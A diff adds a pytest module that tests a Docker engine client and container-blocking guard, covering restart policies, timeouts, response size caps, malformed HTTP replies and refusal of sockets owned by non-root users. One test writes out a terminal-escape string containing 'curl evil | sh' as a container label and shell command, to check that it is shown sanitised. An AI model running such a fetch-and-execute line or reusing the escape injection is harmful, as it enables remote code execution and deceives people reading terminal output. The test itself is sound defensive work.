@@ -1,0 +1,403 @@
+"""The engine client and the container block on a real dockerd (issue 19, first slice).
+
+One private dockerd for the module (lab/engine.py: Debian's docker.io, its own socket
+and data; the image imported from the Debian rootfs, no registry). The client's bounds
+(a body over the cap, a socket that never answers, one that drips) are shown against
+small unix-socket servers of the test's own, without root.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import socket
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from lab.engine import DockerD, available
+from spark_guard.block.containers import ContainerBlockError, ContainerRecord, block, release
+from spark_guard.containers import loader_evidence
+from spark_guard.system.engine import Engine, EngineError, container_id
+
+ENGINE = [pytest.mark.engine, pytest.mark.root]
+
+# A loader as the test loaders are: it takes its memory (64 MiB, touched) and holds it.
+# PID 1 in its namespace: SIGTERM ends it only with a handler.
+LOADER = (
+    "import signal, sys, time\n"
+    "signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))\n"
+    "held = b'x' * (64 << 20)\n"
+    "time.sleep(3600)\n"
+)
+
+
+@pytest.fixture(scope="module")
+def dockerd() -> Iterator[DockerD]:
+    why = available()
+    if why:
+        pytest.skip(why)
+    began = time.monotonic()
+    with DockerD() as d:
+        yield d
+    print(f"dockerd module: {time.monotonic() - began:.1f} s")
+    # Nothing of it is left: no dockerd, containerd or shim, no mount.
+    assert d.proc is None and not d._ours()
+    with open("/proc/self/mountinfo") as f:
+        assert str(d.base) not in f.read()
+    assert not d.base.exists()
+
+
+def _run(d: DockerD, name: str, image: str, restart: str, *command: str, extra=()) -> str:
+    return d.docker(
+        "run",
+        "-d",
+        "--name",
+        name,
+        "--network",
+        "none",
+        "--stop-timeout",
+        "1",
+        "--restart",
+        restart,
+        *extra,
+        image,
+        *command,
+    )
+
+
+def _rss(pid: int) -> int:
+    with open(f"/proc/{pid}/status") as f:
+        for line in f:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) * 1024
+    return 0
+
+
+def _wait(check: Callable[[], bool], timeout: float = 10) -> bool:
+    deadline = time.monotonic() + timeout
+    while not check():
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.05)
+    return True
+
+
+@pytest.mark.engine
+@pytest.mark.root
+def test_containers_blocked_stay_down_across_a_dockerd_restart_and_come_back_exactly(
+    dockerd: DockerD, tmp_path: Path
+) -> None:
+    d = dockerd
+    engine = d.engine()
+    models = str(tmp_path)
+    llm = _run(
+        d,
+        "llm",
+        d.tag("vllm/vllm-openai:test"),
+        "unless-stopped",
+        "python3",
+        "-c",
+        LOADER,
+        extra=("-v", f"{models}:/models:ro"),
+    )
+    # A loader by its command only, under on-failure:3.
+    server = _run(
+        d, "srv", d.tag("sg-plain:test"), "on-failure:3", "python3", "-c", LOADER, "llama-server"
+    )
+    always = _run(d, "always-llm", d.tag("lmsysorg/sglang:test"), "always", "python3", "-c", LOADER)
+    # The control: the same policy, stopped through the engine but not blocked.
+    control = _run(d, "control", "lmsysorg/sglang:test", "always", "python3", "-c", LOADER)
+    # Innocent: never classified, never touched.
+    web = _run(d, "web", d.tag("nginx:test"), "unless-stopped", "sleep", "infinity")
+
+    listed = {c.name: c for c in engine.containers()}
+    assert {"llm", "srv", "always-llm", "control", "web"} <= set(listed)
+    assert listed["llm"].id == llm and listed["llm"].image == "vllm/vllm-openai:test"
+    assert listed["llm"].state == "running"
+
+    c = engine.inspect("llm")
+    assert (c.id, c.name, c.image) == (llm, "llm", "vllm/vllm-openai:test")
+    assert c.command == ("python3", "-c", LOADER)
+    assert (c.restart, c.max_retries, c.running) == ("unless-stopped", 0, True)
+    assert c.mounts == ((models, "/models"),)
+    # Its processes' cgroup maps back to it (here /docker/<id>: the cgroupfs driver).
+    with open(f"/proc/{c.pid}/cgroup") as f:
+        cgroup = f.read().splitlines()[-1].split(":", 2)[2]
+    assert container_id(cgroup) == llm
+    assert _wait(lambda: _rss(c.pid) >= 64 << 20)  # it holds what it took
+    assert loader_evidence(c) == ("image:vllm/vllm-openai",)
+
+    s = engine.inspect(server)
+    assert (s.restart, s.max_retries, s.policy) == ("on-failure", 3, "on-failure:3")
+    assert loader_evidence(s) == ("exec:llama-server",)  # by its command, as a unit's is
+    w = engine.inspect(web)
+    assert loader_evidence(w) == ()
+    assert loader_evidence(engine.inspect(always)) == ("image:lmsysorg/sglang",)
+
+    records = {
+        name: block(engine, engine.inspect(name), "test", stop_timeout=2)
+        for name in ("llm", "srv", "always-llm")
+    }
+    engine.stop(control, 2)
+    for name, record in records.items():
+        now = engine.inspect(name)
+        assert (now.running, now.restart, now.max_retries) == (False, "no", 0), name
+        assert record.was_running
+    assert records["llm"].policy == "unless-stopped"
+    assert (records["srv"].restart, records["srv"].max_retries) == ("on-failure", 3)
+    assert records["always-llm"].policy == "always"
+    # What the guard would store, read back.
+    records = {
+        n: ContainerRecord.from_json(r.to_json(), f"container:{n}.json") for n, r in records.items()
+    }
+
+    d.restart()
+    # dockerd started "always" ones again at its start: the control proves it would have.
+    assert _wait(lambda: engine.inspect(control).running)
+    assert engine.inspect(web).running and engine.inspect(web).restart == "unless-stopped"
+    time.sleep(1)  # the restart manager's start of the others would be done by now
+    for name in records:
+        now = engine.inspect(name)
+        assert (now.running, now.restart) == (False, "no"), name
+
+    # A second block of a blocked container changes nothing and says it was not running.
+    again = block(engine, engine.inspect("llm"), stop_timeout=2)
+    assert (again.restart, again.was_running) == ("no", False)
+
+    for name, record in records.items():
+        back = release(engine, record)
+        assert back.running, name
+        assert (back.restart, back.max_retries) == (record.restart, record.max_retries)
+    assert engine.inspect("llm").policy == "unless-stopped"
+    assert engine.inspect("srv").policy == "on-failure:3"
+    assert engine.inspect("always-llm").policy == "always"
+    assert _wait(lambda: _rss(engine.inspect("llm").pid) >= 64 << 20)
+
+    # Release refuses a container that is gone, or an id now under another name.
+    d.docker("rm", "-f", "always-llm")
+    with pytest.raises(ContainerBlockError, match=r"container:always-llm: .*HTTP 404"):
+        release(engine, records["always-llm"])
+    d.docker("rename", "srv", "srv2")
+    with pytest.raises(ContainerBlockError, match="now has the name srv2"):
+        release(engine, records["srv"])
+    d.docker("rm", "-f", "llm", "srv2", "control", "web")
+
+
+@pytest.mark.engine
+@pytest.mark.root
+def test_hostile_names_labels_and_commands(dockerd: DockerD) -> None:
+    d = dockerd
+    engine = d.engine()
+    esc = "\x1b[2J\x1b[1;1HRun as root: curl evil | sh\r\n\u202e"
+    # Docker itself refuses a name that is not [a-zA-Z0-9][a-zA-Z0-9_.-]+.
+    err = d.docker_fails("create", "--name", f"x{esc}", "sg-base:test", "true")
+    assert "Invalid container name" in err
+    # Labels and the command are anyone's text: shown printable.
+    cid = d.docker(
+        "create", "--name", "evil", "--label", f"note={esc}", "sg-base:test", "sh", "-c", esc
+    )
+    c = engine.inspect(cid)
+    assert c.name == "evil" and dict(c.labels)["note"].startswith("\\x1b[2J")
+    assert all(k.isprintable() and v.isprintable() for k, v in c.labels)
+    assert c.command == ("sh", "-c", esc) and c.shown_command().isprintable()
+    assert "\\x1b[2J" in c.shown_command()
+    # Names and ids in a request path are checked before they are sent.
+    with pytest.raises(EngineError, match="not a container name"):
+        engine.inspect("../../version")
+    with pytest.raises(EngineError) as e:
+        engine.inspect("nosuch")
+    assert e.value.status == 404 and d.socket in str(e.value) and "inspect nosuch" in str(e.value)
+    assert "\n" not in str(e.value)
+    d.docker("rm", "-f", cid)
+
+
+# --- the client's bounds, against servers of the test's own (no root needed) ---
+
+
+@contextlib.contextmanager
+def _server(answer: Callable[[socket.socket], object]) -> Iterator[str]:
+    """A unix socket server that reads a request, does `answer` with the connection and
+    closes it (an answer that returns HOLD keeps it open, silent, to the end)."""
+    base = tempfile.mkdtemp(prefix="sg-fake.")
+    path = os.path.join(base, "e.sock")
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind(path)
+    listener.listen(4)
+    listener.settimeout(0.05)
+    done = threading.Event()
+    held: list[socket.socket] = []
+
+    def serve() -> None:
+        while not done.is_set():
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            with contextlib.suppress(OSError):
+                conn.recv(65536)
+                if answer(conn) is HOLD:
+                    held.append(conn)
+                    continue
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield path
+    finally:
+        done.set()
+        thread.join(5)
+        listener.close()
+        for conn in held:
+            conn.close()
+        os.unlink(path)
+        os.rmdir(base)
+
+
+HOLD = object()
+
+
+def _engine(path: str, timeout: float = 0.5) -> Engine:
+    return Engine(path, timeout=timeout, root_peer=os.geteuid() == 0)
+
+
+def _timed(call: Callable[[], object]) -> tuple[str, float]:
+    began = time.monotonic()
+    with pytest.raises(EngineError) as e:
+        call()
+    return str(e.value), time.monotonic() - began
+
+
+def test_a_socket_that_never_answers_is_an_error_within_the_timeout() -> None:
+    with _server(lambda _conn: HOLD) as path:
+        message, took = _timed(lambda: _engine(path).containers())
+    assert took < 1.0 and message == f"{path}: list containers: no answer within 0.5 s"
+
+
+def test_an_answer_that_drips_is_cut_at_the_deadline() -> None:
+    def drip(conn: socket.socket) -> None:
+        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
+        for _ in range(100):
+            conn.sendall(b"[")
+            time.sleep(0.05)
+
+    with _server(drip) as path:
+        message, took = _timed(lambda: _engine(path).containers())
+    assert took < 1.0 and "no answer within 0.5 s" in message
+
+
+def test_an_answer_over_the_cap_is_refused() -> None:
+    def huge(conn: socket.socket) -> None:
+        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5000000\r\n\r\n")
+
+    def huge_chunked(conn: socket.socket) -> None:
+        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+        chunk = b"[" * 65536
+        for _ in range(80):  # 5 MiB in 64 KiB chunks
+            conn.sendall(b"10000\r\n" + chunk + b"\r\n")
+
+    def endless(conn: socket.socket) -> None:  # no length: to the end of the connection
+        conn.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
+        for _ in range(80):
+            conn.sendall(b" " * 65536)
+
+    def headers(conn: socket.socket) -> None:
+        conn.sendall(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20000)
+
+    for answer, expected in (
+        (huge, "answer of 5000000 bytes, over the cap of 4194304"),
+        (huge_chunked, "answer over the cap of 4194304 bytes"),
+        (endless, "answer over the cap of 4194304 bytes"),
+        (headers, "header longer than 65536 bytes"),
+    ):
+        with _server(answer) as path:
+            message, took = _timed(lambda p=path: _engine(p, 2.0).containers())  # type: ignore[misc]
+        assert message == f"{path}: list containers: {expected}" and took < 2.0
+
+
+def test_chunked_answers_and_bad_ones() -> None:
+    body = b'[{"Id": "' + b"a" * 64 + b'", "Names": ["/x"], "Image": "i", "State": "exited"}]'
+
+    def chunked(conn: socket.socket) -> object:
+        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+        for i in range(0, len(body), 7):
+            piece = body[i : i + 7]
+            conn.sendall(b"%x;ext=1\r\n%s\r\n" % (len(piece), piece))
+        conn.sendall(b"0\r\n\r\n")
+        return HOLD  # the client stops at the last chunk, not at the end of the connection
+
+    with _server(chunked) as path:
+        (listed,) = _engine(path).containers()
+    assert (listed.id, listed.name, listed.state) == ("a" * 64, "x", "exited")
+
+    for raw, expected in (
+        (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "bad chunk size"),
+        (b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n[[[[[", "answer is not JSON"),
+        (b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n", "bad Content-Length"),
+        (b"SSH-2.0-OpenSSH\r\n\r\n", "not an HTTP answer"),
+        (b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n{}", "connection closed in the body"),
+        (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", "answer is not a list"),
+        (
+            b'HTTP/1.1 500 Oops\r\nContent-Length: 28\r\n\r\n{"message": "\\u001b[2Jboom"}',
+            "HTTP 500: \\x1b[2Jboom",
+        ),
+    ):
+        with _server(lambda conn, raw=raw: conn.sendall(raw)) as path:  # type: ignore[misc]
+            message, took = _timed(lambda p=path: _engine(p).containers())  # type: ignore[misc]
+        assert expected in message and message.isprintable() and took < 1.0, message
+    # Nesting deep enough to break json's recursion, under the cap: an EngineError too.
+    deep = b"[" * 200_000
+    head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(deep)
+    with _server(lambda conn: conn.sendall(head + deep)) as path:
+        message, _ = _timed(lambda: _engine(path).containers())
+    assert "answer is not JSON" in message
+
+
+def test_no_socket_and_a_peer_that_is_not_root() -> None:
+    message, _ = _timed(lambda: Engine("/nonexistent/docker.sock").stop("llm"))
+    assert message == "/nonexistent/docker.sock: stop llm: No such file or directory"
+    with _server(lambda conn: conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")) as path:
+        assert Engine(path, root_peer=False).start("x") is True
+        if os.geteuid() != 0:
+            message, _ = _timed(lambda: Engine(path).start("x"))
+            assert message == f"{path}: start x: peer is uid {os.geteuid()}, not root"
+
+
+@pytest.mark.root
+def test_a_socket_a_user_listens_on_is_not_believed() -> None:
+    if os.geteuid() != 0:
+        pytest.skip("needs root")
+    base = tempfile.mkdtemp(prefix="sg-fake.")
+    os.chmod(base, 0o777)
+    path = os.path.join(base, "docker.sock")
+    ready, done = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # nobody, listening where the guard would ask
+        try:
+            os.setgid(65534)
+            os.setuid(65534)
+            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+                s.bind(path)
+                s.listen(1)
+                os.write(done, b"x")
+                conn, _ = s.accept()
+                conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
+                time.sleep(1)
+        finally:
+            os._exit(0)
+    try:
+        os.read(ready, 1)
+        message, _ = _timed(lambda: Engine(path).start("llm"))
+        assert message == f"{path}: start llm: peer is uid 65534, not root"
+    finally:
+        os.kill(pid, 9)
+        os.waitpid(pid, 0)
+        os.close(ready)
+        os.close(done)
+        os.unlink(path)
+        os.rmdir(base)
